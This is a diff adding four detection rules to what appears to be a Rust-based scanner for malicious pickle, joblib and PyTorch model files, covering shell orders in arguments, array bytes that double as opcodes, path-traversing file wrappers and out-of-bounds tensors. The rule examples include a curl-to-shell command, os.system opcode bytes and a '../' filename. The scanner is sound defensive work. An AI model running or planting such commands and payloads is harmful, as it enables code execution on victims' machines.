@@ -239,3 +239,79 @@ pub(crate) struct AttributeWrite;
 #[derive(Rule)]
 #[rule(code = "PKL013", severity = "medium", confidence = "medium", controls = ["model-scan", "safe-serialization"])]
 pub(crate) struct UnusualArguments;
+
+/// The pickle calls something unknown with an order.
+///
+/// ## What it finds
+/// A call of something that is neither known to be inert nor known to do harm, with a text that is Python code, a shell
+/// command or an address to fetch from, plain or encoded.
+/// ## Why it matters
+/// What the callable does is not known; what it is asked to do is. Wrappers around `exec` and `os.system` exist in most
+/// large packages, and new ones are found every month.
+/// ## Example
+/// `somepackage.utils.run_shell` called with `curl https://example.invalid | sh`.
+/// ## Fix
+/// Do not load the file. Ask where it came from.
+/// ## References
+/// - <https://docs.python.org/3/library/pickle.html>
+/// - <https://cwe.mitre.org/data/definitions/94.html>
+#[derive(Rule)]
+#[rule(code = "PKL014", severity = "high", confidence = "medium", controls = ["model-scan", "safe-serialization"])]
+pub(crate) struct OrderInArguments;
+
+/// The bytes of an array are also opcodes that do something.
+///
+/// ## What it finds
+/// A file of joblib in which the raw bytes of an array, read as opcodes, import what does harm or call something.
+/// ## Why it matters
+/// `joblib.load` takes the bytes as numbers, `pickle.load` takes the same bytes as a program. Who looks at one reading
+/// alone does not see the other.
+/// ## Example
+/// An array of bytes that spell `cposix\nsystem\n`, a string, and `REDUCE`.
+/// ## Fix
+/// Do not load the file with anything. Ask where it came from.
+/// ## References
+/// - <https://joblib.readthedocs.io/en/stable/persistence.html>
+/// - CVE-2020-13092
+#[derive(Rule)]
+#[rule(code = "PKL015", severity = "critical", confidence = "high", controls = ["model-scan", "safe-serialization"])]
+pub(crate) struct ReadTwoWays;
+
+/// The pickle makes joblib read another file.
+///
+/// ## What it finds
+/// One of joblib's older wrappers, which stand for an array in a file of its own. It is high where the name leads out of
+/// the model's folder or is computed, and medium where the file lies beside.
+/// ## Why it matters
+/// `joblib.load` opens the file that the pickle names, with the rights of the process, and unpickles what is in it. The
+/// file is not part of what was looked at here.
+/// ## Example
+/// `NDArrayWrapper` with the filename `../../shared/weights.npy`.
+/// ## Fix
+/// Load the model once where it is trusted and write it again with a current joblib, which keeps arrays in one file.
+/// ## References
+/// - <https://github.com/joblib/joblib/blob/main/joblib/numpy_pickle_compat.py>
+/// - <https://cwe.mitre.org/data/definitions/22.html>
+#[derive(Rule)]
+#[rule(code = "PKL016", severity = "medium", confidence = "high", controls = ["model-scan", "safe-serialization"])]
+pub(crate) struct OtherFile;
+
+/// A tensor lies outside its storage.
+///
+/// ## What it finds
+/// A call of `torch._utils._rebuild_tensor_v2` and its kin with an offset, sizes and strides that reach beyond the
+/// storage, or are negative.
+/// ## Why it matters
+/// Such a tensor reads and writes memory that is not its own, in every loader that does not check, `weights_only` or
+/// not.
+/// ## Example
+/// A tensor of 1,000 elements over a storage of two.
+/// ## Fix
+/// Do not load the file. Fetch it again, and compare its digest with the supplier's.
+/// ## References
+/// - CVE-2025-32434
+/// - CVE-2026-24747
+/// - <https://cwe.mitre.org/data/definitions/125.html>
+#[derive(Rule)]
+#[rule(code = "PKL017", severity = "high", confidence = "high", controls = ["model-scan", "model-integrity"])]
+pub(crate) struct TensorOutside;
